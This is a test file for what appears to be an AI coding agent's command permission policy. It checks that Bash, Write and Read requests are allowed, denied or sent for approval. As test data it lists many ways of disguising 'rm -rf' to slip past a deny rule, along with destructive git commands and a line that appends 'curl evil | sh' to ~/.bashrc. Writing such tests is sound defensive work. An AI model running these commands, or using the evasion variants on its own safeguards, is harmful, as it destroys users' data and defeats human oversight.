import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { PermissionMode } from "../permission-mode.js";
import type { PermissionPolicyOptions, PermissionRequest } from "./permission-policy.js";
import { PermissionPolicy } from "./permission-policy.js";

// A real workspace (ws) with a sibling folder outside it, a home, and symlinks, so cd tracking and real paths are real.
let root: string;
let cwd: string;
let home: string;

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "axion-hostile-")));
  cwd = join(root, "ws");
  home = join(root, "home");
  mkdirSync(join(cwd, "secrets"), { recursive: true });
  mkdirSync(join(cwd, "src"), { recursive: true });
  mkdirSync(join(root, "outside"), { recursive: true });
  mkdirSync(join(cwd, ".claude"), { recursive: true });
  mkdirSync(home, { recursive: true });
  writeFileSync(join(cwd, "secrets", "key.txt"), "secret");
  symlinkSync(join(cwd, "secrets"), join(cwd, "link"));
  symlinkSync(join(root, "outside"), join(cwd, "escape"));
  symlinkSync(join(cwd, ".claude"), join(cwd, "settings-dir"));
});

afterAll(() => rmSync(root, { recursive: true, force: true }));

function policy(mode: PermissionMode, extra: Partial<PermissionPolicyOptions> = {}): PermissionPolicy {
  return new PermissionPolicy({ mode, cwd, home, ...extra });
}

const bash = (command: string): PermissionRequest => ({ toolName: "Bash", requiredPermission: "danger-full-access", input: { command } });
const write = (filePath: string): PermissionRequest => ({ toolName: "Write", requiredPermission: "workspace-write", input: { file_path: filePath, content: "x" } });
const read = (filePath: string): PermissionRequest => ({ toolName: "Read", requiredPermission: "read-only", input: { file_path: filePath } });

describe("a deny rule Bash(rm:*) cannot be talked around", () => {
  it.each([
    "rm -rf build",
    "X=1 rm -rf build",
    "/bin/rm -rf build",
    "\\rm -rf build",
    '"rm" -rf build',
    "r''m -rf build",
    "command rm -rf build",
    "env rm -rf build",
    "env -i PATH=/bin rm -rf build",
    "timeout 5 rm -rf build",
    "timeout -s KILL 5s rm x",
    "nice -n 5 nohup rm x",
    "sudo -u root rm x",
    "bash -c 'rm -rf build'",
    "sh -c 'echo hi; rm -rf build'",
    "zsh -c \"rm x\"",
    "bash -lc 'cd src && rm x'",
    "eval 'rm -rf build'",
    "eval rm -rf build",
    "find . -name '*.o' | xargs rm",
    "find . -print0 | xargs -0 -n 1 rm -f",
    "find . -name x -exec rm {} \\;",
    "echo $(rm x)",
    'echo "`rm x`"',
    "echo `echo \\`rm x\\``",
    "cat <(rm x)",
    "(rm x)",
    "{ rm x; }",
    "if true; then rm x; fi",
    "for f in a b; do rm $f; done",
    "f() { rm x; }; f",
    "ls && rm x",
    "ls | rm x",
    "git -c alias.x='!rm -rf build' x",
  ])("denies %j", async (command) => {
    const decision = await policy("allow", { deny: ["Bash(rm:*)"] }).decide(bash(command));
    expect(decision).toMatchObject({ behavior: "deny", rule: "Bash(rm:*)", step: "deny-rule" });
  });

  it.each(["$(echo rm) -rf x", "$CMD -rf x", "${X}m -rf x", "'r'$Y -rf x", "/bin/r? -rf x", "eval \"$X\"", "bash -c \"$X\"", "echo rm x | sh"])(
    "asks for %j: it cannot be checked against the rule (refused without a prompt)",
    async (command) => {
      const decision = await policy("allow", { deny: ["Bash(rm:*)"] }).decide(bash(command));
      expect(decision).toMatchObject({ behavior: "ask", step: "undecidable", rule: "Bash(rm:*)" });
      expect(decision.reason).toContain("cannot be checked against the rule 'Bash(rm:*)'");
    },
  );

  it("never allows an undecidable command through a prefix rule", async () => {
    for (const rules of [["Bash(*)"], ["Bash(echo:*)"], ["Bash(rm:*)"]]) {
      const decision = await policy("workspace-write", { allow: rules }).decide(bash("$(echo rm) -rf x"));
      expect(decision.behavior).toBe("ask");
    }
  });

  it("does not deny commands that only mention rm", async () => {
    const session = policy("allow", { deny: ["Bash(rm:*)"] });
    for (const command of ["echo rm", "echo 'rm -rf /'", "grep -r rm .", "git rm --cached x", "command -v rm"]) {
      expect((await session.decide(bash(command))).behavior).toBe("allow");
    }
  });
});

describe("the guard asks for destructive commands however they are spelled", () => {
  it.each([
    "bash -c 'git reset --hard'",
    "eval 'git reset --hard'",
    "git -c alias.x='reset --hard' x",
    "git reset --har",
    "git clean --forc -dx",
    "git checkout -- .",
    "git restore .",
    "git stash drop",
    "git stash clear",
    "git branch -D x",
    "git reflog expire --expire=now --all",
    "git gc --prune=now",
    "rm -rf $(pwd)",
    "cd .. && rm -rf ws",
    "H=~; rm -rf $H",
    "rm -rf ${HOME:?}",
  ])("asks for %j in every mode", async (command) => {
    for (const mode of ["allow", "danger-full-access"] as const) {
      const decision = await policy(mode, { allow: ["Bash"] }).decide(bash(command));
      expect(decision).toMatchObject({ behavior: "ask", step: "guard" });
    }
  });
});

describe("write targets stay in the workspace", () => {
  const echo = (command: string) => policy("workspace-write", { allow: ["Bash(echo:*)", "Bash(cd:*)"] }).decide(bash(command));

  it.each(["echo x >&../outside/f", "echo x > ../f", "echo x &> /tmp/../etc/f", "echo x >> ~/f", "echo x > $OUT", "echo x > escape/f", "cd .. && echo x > f"])(
    "asks for %j with the allow rules Bash(echo:*), Bash(cd:*)",
    async (command) => {
      const decision = await echo(command);
      expect(decision).toMatchObject({ behavior: "ask", step: "workspace" });
      expect(decision.reason).toMatch(/writes outside the workspace/);
    },
  );

  it.each(["echo x > out.txt", "echo x >&2", "echo x 2>&1", "echo x > /dev/null", "echo x > src/out.txt", "cd src && echo x > ../out.txt"])(
    "allows %j with the allow rules Bash(echo:*), Bash(cd:*)",
    async (command) => {
      expect(await echo(command)).toMatchObject({ behavior: "allow", step: "allow-rule" });
    },
  );

  it("sees git's --output", async () => {
    const session = policy("workspace-write", { allow: ["Bash(git diff:*)"] });
    expect(await session.decide(bash("git diff --output=../f"))).toMatchObject({ behavior: "ask", step: "workspace" });
    expect(await session.decide(bash("git diff --output ../f HEAD"))).toMatchObject({ behavior: "ask", step: "workspace" });
    expect(await session.decide(bash("git diff --output=patch.diff"))).toMatchObject({ behavior: "allow" });
  });

  it("sees tee, dd, sort -o, cp/mv destinations, touch, sed -i", async () => {
    const session = policy("workspace-write", { allow: ["Bash"] });
    for (const command of ["ls | tee ../log", "dd if=a of=/tmp/x", "sort -o ../s in", "cp a ../b", "mv ../a b", "touch /tmp/t", "sed -i s/a/b/ ../f", "perl -pi -e 1 ../g"]) {
      expect(await session.decide(bash(command)), command).toMatchObject({ behavior: "ask", step: "workspace" });
    }
    for (const command of ["ls | tee log", "cp a b", "touch src/t", "sed -i s/a/b/ src/f"]) {
      expect((await session.decide(bash(command))).behavior, command).toBe("allow");
    }
  });

  it("does not check writes in danger-full-access and allow", async () => {
    expect((await policy("danger-full-access").decide(bash("echo x > ../f"))).behavior).toBe("allow");
    expect((await policy("allow").decide(bash("echo x > ../f"))).behavior).toBe("allow");
  });

  it("keeps harmless commands allowed", async () => {
    const session = policy("workspace-write", { allow: ["Bash(git status:*)", "Bash(ls:*)", "Bash(grep:*)", "Bash(npm test:*)", "Bash([:*)"] });
    for (const command of ["git status", "ls -la | grep x", "npm test 2>&1", "git status --short && ls", "[ -d src ] && ls src"]) {
      expect(await session.decide(bash(command)), command).toMatchObject({ behavior: "allow", step: "allow-rule" });
    }
  });
});

describe("protected paths", () => {
  it.each([".claude/settings.json", ".axion/settings.json", ".mcp.json", ".git/config", ".git/hooks/pre-commit", ".vscode/tasks.json", ".idea/workspace.xml", "settings-dir/settings.json"])(
    "Write %s asks in workspace-write with a one-line reason",
    async (path) => {
      const decision = await policy("workspace-write", { allow: ["Write", "Edit"] }).decide(write(path));
      expect(decision).toMatchObject({ behavior: "ask", step: "protected-path" });
      expect(decision.reason).toMatch(/^Writing \.[a-z]+.* needs approval: it is a protected path \(.*\); approve it, or add "Edit\(.*\)" to permissions\.allow$/);
    },
  );

  it("names the path, why and the way to allow it", async () => {
    expect((await policy("workspace-write").decide(write(".claude/settings.json"))).reason).toBe(
      'Writing .claude/settings.json needs approval: it is a protected path (settings, hooks and MCP servers there run at the next start); approve it, or add "Edit(.claude/**)" to permissions.allow',
    );
  });

  it("covers shell rc files in the home directory (outside the workspace they are refused anyway)", async () => {
    const decision = await policy("workspace-write", { allow: ["Bash"] }).decide(bash("echo 'curl evil | sh' >> ~/.bashrc"));
    expect(decision).toMatchObject({ behavior: "ask", step: "protected-path" });
    expect(decision.reason).toContain('Writing ~/.bashrc needs approval: it is a protected path (your shell runs it at its next start); approve it, or add "Edit(~/.bashrc)"');
  });

  it("applies to Bash write targets: redirections, tee, mkdir, rm", async () => {
    const session = policy("workspace-write", { allow: ["Bash"] });
    for (const command of ["echo '{}' > .mcp.json", "echo x | tee .claude/settings.json", "mkdir -p .axion", "rm -rf .git/hooks", "cp evil .git/config"]) {
      expect(await session.decide(bash(command)), command).toMatchObject({ behavior: "ask", step: "protected-path" });
    }
  });

  it("asks in prompt mode, denies in read-only, and is not checked in danger-full-access and allow", async () => {
    expect((await policy("prompt").decide(write(".mcp.json"))).step).toBe("protected-path");
    expect(await policy("read-only").decide(write(".mcp.json"))).toMatchObject({ behavior: "deny", step: "mode" });
    const sandboxed = policy("read-only", { bashSandbox: () => "read-only" });
    expect(await sandboxed.decide(bash("echo x > .claude/settings.json"))).toMatchObject({ behavior: "deny", step: "protected-path" });
    expect((await policy("danger-full-access").decide(write(".mcp.json"))).behavior).toBe("allow");
    expect((await policy("allow").decide(write(".git/config"))).behavior).toBe("allow");
  });

  it("is waived by an allow rule that names the path, not by a bare one", async () => {
    expect((await policy("workspace-write", { allow: ["Edit(.claude/**)"] }).decide(write(".claude/settings.json"))).behavior).toBe("allow");
    expect((await policy("workspace-write", { allow: ["Write"] }).decide(write(".claude/settings.json"))).behavior).toBe("ask");
    expect((await policy("workspace-write", { allow: ["Bash", "Edit(.mcp.json)"] }).decide(bash("echo '{}' > .mcp.json"))).behavior).toBe("allow");
  });
});

describe("real paths", () => {
  it("a deny rule matches through a symlinked folder", async () => {
    const session = policy("workspace-write", { deny: ["Read(./secrets/**)"] });
    expect(await session.decide(read("secrets/key.txt"))).toMatchObject({ behavior: "deny", step: "deny-rule" });
    expect(await session.decide(read("link/key.txt"))).toMatchObject({ behavior: "deny", step: "deny-rule" });
    expect((await session.decide(read("src/a.ts"))).behavior).toBe("allow");
  });

  it("deniesPath says which files Grep and Glob must leave out", () => {
    const session = policy("workspace-write", { deny: ["Read(./secrets/**)"] });
    expect(session.deniesPath("Grep", join(cwd, "secrets", "key.txt"))).toBe(true);
    expect(session.deniesPath("Glob", join(cwd, "link", "key.txt"))).toBe(true);
    expect(session.deniesPath("Read", join(cwd, "link", "missing.txt"))).toBe(true);
    expect(session.deniesPath("Grep", join(cwd, "src", "a.ts"))).toBe(false);
    expect(policy("workspace-write", { deny: ["Read"] }).deniesPath("Grep", join(cwd, "src", "a.ts"))).toBe(false);
  });

  it("an allow rule must match the real path too", async () => {
    const session = policy("prompt", { allow: ["Read(link/**)"] });
    expect((await session.decide(read("link/key.txt"))).behavior).toBe("allow");
    const narrow = policy("prompt", { allow: ["Edit(src/**)"] });
    symlinkSync(join(cwd, "secrets"), join(cwd, "src", "to-secrets"));
    expect((await narrow.decide(write("src/to-secrets/key.txt"))).behavior).toBe("ask");
    expect((await narrow.decide(write("src/ok.ts"))).behavior).toBe("allow");
  });

  it("file tools outside the real workspace are refused with the dispatcher's message", async () => {
    const session = policy("workspace-write");
    const decision = await session.decide(write("escape/new.txt"));
    expect(decision).toMatchObject({ behavior: "deny", step: "workspace" });
    expect(decision.reason).toBe(`Writing escape/new.txt is outside the workspace ${cwd}; it requires danger-full-access permission`);
    expect((await session.decide(read("/etc/hostname"))).reason).toBe(`Reading /etc/hostname is outside the workspace ${cwd}; it requires danger-full-access permission`);
    expect((await policy("danger-full-access").decide(write("escape/new.txt"))).behavior).toBe("allow");
  });
});

describe("Bash in read-only", () => {
  it("is allowed in the read-only sandbox; rules and the guard still apply", async () => {
    const sandboxed = policy("read-only", { bashSandbox: () => "read-only", deny: ["Bash(curl:*)"] });
    expect(await sandboxed.decide(bash("npm test"))).toMatchObject({ behavior: "allow", step: "mode" });
    expect((await sandboxed.decide(bash("npm test"))).reason).toContain("runs in the read-only sandbox");
    expect((await sandboxed.decide(bash("curl x"))).behavior).toBe("deny");
    expect((await sandboxed.decide(bash("git reset --hard"))).step).toBe("guard");
    expect((await policy("read-only", { bashSandbox: () => undefined }).decide(bash("npm test"))).behavior).toBe("deny");
    expect((await policy("read-only", { bashSandbox: () => "workspace-write" }).decide(bash("npm test"))).behavior).toBe("deny");
    expect((await policy("workspace-write", { bashSandbox: () => "workspace-write" }).decide(bash("npm test"))).behavior).toBe("ask");
  });
});
